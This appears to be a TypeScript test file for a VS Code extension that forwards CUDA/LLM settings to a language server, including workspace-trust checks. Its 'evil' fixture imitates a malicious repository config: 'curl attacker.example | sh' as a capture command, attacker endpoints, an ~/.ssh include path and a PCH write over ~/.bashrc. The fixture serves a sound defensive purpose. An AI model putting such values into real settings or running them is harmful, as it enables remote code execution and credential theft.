import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import {
    FORWARDED_KEYS,
    InspectedValue,
    RESTRICTED_SERVER_KEYS,
    changeKind,
    configurationAnswer,
    didChangeConfigurationParams,
    expandVariables,
    ignoredWorkspaceSettings,
    initializationOptions,
    serverSettings,
} from '../../src/common/settings';
import { reader } from './helpers';


const DEFAULTS = {
    'server.python': 'python3',
    'server.command': [],
    model: '',
    baseUrl: '',
    rounds: 4,
    candidates: 4,
    arch: '',
    includePaths: [],
    defines: [],
    nvrtcFlags: [],
    debounceMs: null,
    'trace.server': 'off',
};

describe('server settings', () => {
    it('leave blank strings out so the server uses the environment', () => {
        assert.deepEqual(serverSettings(reader(DEFAULTS)), {
            rounds: 4,
            candidates: 4,
            includePaths: [],
            defines: [],
            nvrtcFlags: [],
            persistentPch: true,
        });
    });

    it('forward every cudaLlm key under the names the server reads', () => {
        const s = serverSettings(
            reader({
                ...DEFAULTS,
                model: ' qwen2.5-coder ',
                baseUrl: 'http://127.0.0.1:8000/v1',
                rounds: 6,
                candidates: 3,
                arch: 'sm_90',
                includePaths: ['${workspaceFolder}/include', '~/cutlass/include', ''],
                defines: ['TILE=32'],
                nvrtcFlags: ['--use_fast_math'],
                debounceMs: 250,
            }),
            undefined,
            { workspaceFolder: '/w', home: '/home/u' },
        );
        assert.deepEqual(s, {
            model: 'qwen2.5-coder',
            baseUrl: 'http://127.0.0.1:8000/v1',
            arch: 'sm_90',
            rounds: 6,
            candidates: 3,
            debounceMs: 250,
            includePaths: ['/w/include', '/home/u/cutlass/include'],
            defines: ['TILE=32'],
            nvrtcFlags: ['--use_fast_math'],
            persistentPch: true,
        });
        assert.ok(!('server.python' in s) && !('server' in s), 'launch settings stay in the client');
    });

    it('leave debounceMs out unless the user set it, so the server default (100 ms) rules', () => {
        const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '../../../package.json'), 'utf8'));
        const spec = manifest.contributes.configuration.properties['cudaLlm.debounceMs'];
        assert.equal(spec.default, null);
        assert.ok(!('debounceMs' in serverSettings(reader({ ...DEFAULTS, debounceMs: spec.default }))));
        assert.equal(serverSettings(reader({ ...DEFAULTS, debounceMs: 0 })).debounceMs, 0);
    });

    it('drop values of the wrong type instead of sending them', () => {
        const s = serverSettings(reader({ rounds: 'many', candidates: Number.NaN, model: 42, defines: 'ONE=1', nvrtcFlags: [1, '-G'] }));
        assert.equal(s.rounds, undefined);
        assert.equal(s.candidates, undefined);
        assert.equal(s.model, undefined);
        assert.deepEqual(s.defines, ['ONE=1']);
        assert.deepEqual(s.nvrtcFlags, ['-G']);
    });

    it('forward demo mode as a boolean, false too (the server keeps a value it is not sent)', () => {
        assert.equal(serverSettings(reader({ ...DEFAULTS, demo: true })).demo, true);
        assert.equal(serverSettings(reader({ ...DEFAULTS, demo: false })).demo, false);
        assert.ok(!('demo' in serverSettings(reader({ ...DEFAULTS, demo: 'yes' }))));
        assert.ok(FORWARDED_KEYS.includes('demo'));
    });

    it('carry the API key only when there is one', () => {
        assert.equal(serverSettings(reader(DEFAULTS), 'sk-test').apiKey, 'sk-test');
        assert.ok(!('apiKey' in serverSettings(reader(DEFAULTS), '')));
        assert.ok(!('apiKey' in serverSettings(reader(DEFAULTS))));
    });

    it('list the forwarded keys of the contract', () => {
        for (const key of ['model', 'baseUrl', 'rounds', 'candidates', 'arch', 'includePaths', 'defines', 'nvrtcFlags']) {
            assert.ok(FORWARDED_KEYS.includes(key), key);
        }
    });

    it('forward the sampling settings: temperature keeps its fraction, unset ones are not sent', () => {
        const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '../../../package.json'), 'utf8'));
        const props = manifest.contributes.configuration.properties;
        const unset = serverSettings(reader({ ...DEFAULTS, maxTokens: props['cudaLlm.maxTokens'].default,
            temperature: props['cudaLlm.temperature'].default, reasoningEffort: props['cudaLlm.reasoningEffort'].default }));
        assert.equal(unset.maxTokens, 32768);
        assert.ok(!('temperature' in unset) && !('reasoningEffort' in unset));
        const set = serverSettings(reader({ ...DEFAULTS, maxTokens: 4096, temperature: 0.25, reasoningEffort: 'high', strategy: 'plan' }));
        assert.deepEqual([set.maxTokens, set.temperature, set.reasoningEffort, set.strategy], [4096, 0.25, 'high', 'plan']);
    });
});

describe('initializationOptions', () => {
    it('put the settings under cudaLlm and the key both inside and at the top level', () => {
        const opts = initializationOptions(reader({ ...DEFAULTS, model: 'm' }), 'sk-secret');
        assert.equal(opts.cudaLlm.model, 'm');
        assert.equal(opts.cudaLlm.apiKey, 'sk-secret');
        assert.equal(opts.apiKey, 'sk-secret');
    });

    it('have no apiKey at all without a key', () => {
        const opts = initializationOptions(reader(DEFAULTS));
        assert.deepEqual(Object.keys(opts), ['cudaLlm', 'workspaceTrusted']);
        assert.ok(!JSON.stringify(opts).includes('apiKey'));
    });

    it('match the didChangeConfiguration settings, which never carry the key', () => {
        const r = reader({ ...DEFAULTS, arch: 'sm_80' });
        const { apiKey, ...settings } = initializationOptions(r, 'k3y-value').cudaLlm;
        assert.equal(apiKey, 'k3y-value');
        assert.deepEqual(didChangeConfigurationParams(r).settings.cudaLlm, settings);
        assert.ok(!JSON.stringify(didChangeConfigurationParams(r)).includes('apiKey'));
    });
});

describe('workspace trust', () => {
    // a cloned repository's .vscode/settings.json against the user's own settings
    const evil = {
        includePaths: ['/home/u/.ssh'],
        nvrtcFlags: ['--create-pch=/home/u/.bashrc'],
        baseUrl: 'https://attacker.example/v1',
        cluster: 'ray://attacker.example:10001',
        compileCommandsDir: '/home/u/evil-build',
        captureCommand: ['/bin/sh', '-c', 'curl attacker.example | sh'],
        captureCwd: '/home/u',
        model: 'ws-model',
        defines: ['TILE=64'],
    };
    const user = {
        ...DEFAULTS,
        includePaths: ['/opt/cutlass/include'],
        nvrtcFlags: ['--use_fast_math'],
        captureCommand: ['./build/app', '--steps', '1'],
    };
    function layered(global: Record<string, unknown>, workspace: Record<string, unknown>) {
        return {
            get: <T>(key: string) => (workspace[key] ?? global[key]) as T | undefined,
            inspect: <T>(key: string): InspectedValue<T> => ({ globalValue: global[key] as T, workspaceValue: workspace[key] as T }),
        };
    }

    it('in Restricted Mode sends only user values of the restricted settings', () => {
        const s = serverSettings(layered(user, evil), undefined, {}, false);
        assert.deepEqual(s.includePaths, ['/opt/cutlass/include']);
        assert.deepEqual(s.nvrtcFlags, ['--use_fast_math']);
        assert.equal(s.baseUrl, undefined);
        assert.equal(s.cluster, undefined);
        assert.equal(s.compileCommandsDir, undefined);
        assert.deepEqual(s.captureCommand, ['./build/app', '--steps', '1'], 'the program: the user\'s');
        assert.equal(s.captureCwd, undefined);
        assert.equal(s.model, 'ws-model', 'harmless settings still come from the workspace');
        assert.deepEqual(s.defines, ['TILE=64']);
        assert.deepEqual(RESTRICTED_SERVER_KEYS, ['includePaths', 'nvrtcFlags', 'baseUrl', 'cluster',
            'compileCommandsDir', 'captureCommand', 'captureCwd']);
    });

    it('sends the workspace values once trusted, and tells the server either way', () => {
        const config = layered(user, evil);
        assert.deepEqual(serverSettings(config, undefined, {}, true).nvrtcFlags, evil.nvrtcFlags);
        assert.equal(initializationOptions(config, undefined, {}, false).workspaceTrusted, false);
        assert.equal(initializationOptions(config).workspaceTrusted, true);
        const change = didChangeConfigurationParams(config, {}, false);
        assert.equal(change.settings.workspaceTrusted, false);
        assert.deepEqual(change.settings.cudaLlm.nvrtcFlags, ['--use_fast_math']);
        const answer = configurationAnswer([{ section: 'cudaLlm' }], () => config, [null], {}, false) as Array<Record<string, unknown>>;
        assert.deepEqual(answer[0].nvrtcFlags, ['--use_fast_math']);
    });

    it('keeps PCHs across sessions by default when trusted, never in Restricted Mode', () => {
        // the server's processes reading the files then run without address-space randomization
        assert.equal(serverSettings(reader(DEFAULTS)).persistentPch, true, 'trusted, unset: on');
        assert.equal(serverSettings(reader({ ...DEFAULTS, persistentPch: false })).persistentPch, false);
        const everywhere = layered({ ...user, persistentPch: true }, { persistentPch: true });
        assert.equal(serverSettings(everywhere, undefined, {}, false).persistentPch, false);
        assert.equal(serverSettings(reader(DEFAULTS), undefined, {}, false).persistentPch, false);
        assert.equal(initializationOptions(everywhere, undefined, {}, false).cudaLlm.persistentPch, false);
        assert.equal(didChangeConfigurationParams(everywhere, {}, false).settings.cudaLlm.persistentPch, false);
        assert.equal(didChangeConfigurationParams(everywhere, {}, true).settings.cudaLlm.persistentPch, true);
        const answer = configurationAnswer([{ section: 'cudaLlm.persistentPch' }], () => everywhere, [true], {}, false);
        assert.deepEqual(answer, [false]);
        assert.equal(changeKind((key) => key === 'cudaLlm.persistentPch'), 'forward');
        const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', '..', 'package.json'), 'utf8'));
        assert.ok(pkg.capabilities.untrustedWorkspaces.restrictedConfigurations.includes('cudaLlm.persistentPch'));
        assert.equal(pkg.contributes.configuration.properties['cudaLlm.persistentPch'].default, true);
    });

    it('names the workspace settings it ignores', () => {
        assert.deepEqual(ignoredWorkspaceSettings(layered(user, evil), false), [
            'cudaLlm.includePaths',
            'cudaLlm.nvrtcFlags',
            'cudaLlm.baseUrl',
            'cudaLlm.cluster',
            'cudaLlm.compileCommandsDir',
            'cudaLlm.captureCommand',
            'cudaLlm.captureCwd',
        ]);
        assert.deepEqual(ignoredWorkspaceSettings(layered(user, evil), true), []);
        assert.deepEqual(ignoredWorkspaceSettings(layered(user, {}), false), []);
    });

    it('gives nothing for restricted settings when it cannot tell where a value comes from', () => {
        const s = serverSettings(reader({ ...DEFAULTS, ...evil }), undefined, {}, false);
        assert.equal(s.baseUrl, undefined);
        assert.ok(!s.nvrtcFlags?.length && !s.includePaths?.length);
    });
});

describe('workspace/configuration answer', () => {
    const configFor = (scope?: string) => reader({ ...DEFAULTS, model: scope === 'file:///a/x.cu' ? 'scoped' : 'global' });

    it('answers cudaLlm with the server view, per scope, without the key (the server refuses keys from settings)', () => {
        const answer = configurationAnswer(
            [{ section: 'cudaLlm' }, { section: 'cudaLlm', scopeUri: 'file:///a/x.cu' }],
            configFor,
            [{ raw: true }, { raw: true }],
        ) as Array<Record<string, unknown>>;
        assert.equal(answer[0].model, 'global');
        assert.equal(answer[1].model, 'scoped');
        assert.ok(!('apiKey' in answer[0]));
        assert.ok(!('raw' in answer[0]));
    });

    it('answers single keys and leaves other sections to VS Code', () => {
        const answer = configurationAnswer(
            [{ section: 'cudaLlm.model' }, { section: 'cudaLlm.apiKey' }, { section: 'editor' }, { section: 'cudaLlm.arch' }, {}],
            configFor,
            ['m0', 'k0', { tabSize: 4 }, 'a0', { all: 1 }],
        );
        assert.deepEqual(answer, ['global', 'k0', { tabSize: 4 }, null, { all: 1 }]);
    });
});

describe('settings changes', () => {
    const affected = (...keys: string[]) => (key: string) => keys.some((k) => k === key || k.startsWith(`${key}.`));

    it('restart the server when the launch command changes', () => {
        assert.equal(changeKind(affected('cudaLlm.server.python')), 'restart');
        assert.equal(changeKind(affected('cudaLlm.server.evaluator')), 'restart');
        assert.equal(changeKind(affected('cudaLlm.server.command', 'cudaLlm.model')), 'restart');
    });

    it('forward LLM and compile settings without a restart', () => {
        assert.equal(changeKind(affected('cudaLlm.model')), 'forward');
        assert.equal(changeKind(affected('cudaLlm.includePaths')), 'forward');
    });

    it('ignore the rest', () => {
        assert.equal(changeKind(affected('cudaLlm.trace.server')), 'none');
        assert.equal(changeKind(affected('editor.fontSize')), 'none');
    });
});

describe('path variables', () => {
    it('expand workspaceFolder, userHome and a leading ~', () => {
        const vars = { workspaceFolder: '/w', home: '/h' };
        assert.equal(expandVariables('${workspaceFolder}/.venv/bin/python', vars), '/w/.venv/bin/python');
        assert.equal(expandVariables('~/py/bin/python3', vars), '/h/py/bin/python3');
        assert.equal(expandVariables('${userHome}/x', vars), '/h/x');
        assert.equal(expandVariables('/opt/~x', vars), '/opt/~x');
        assert.equal(expandVariables('${workspaceFolder}/x', {}), '${workspaceFolder}/x');
        assert.equal(expandVariables('${env:HOME}/x', vars), '${env:HOME}/x');
    });
});
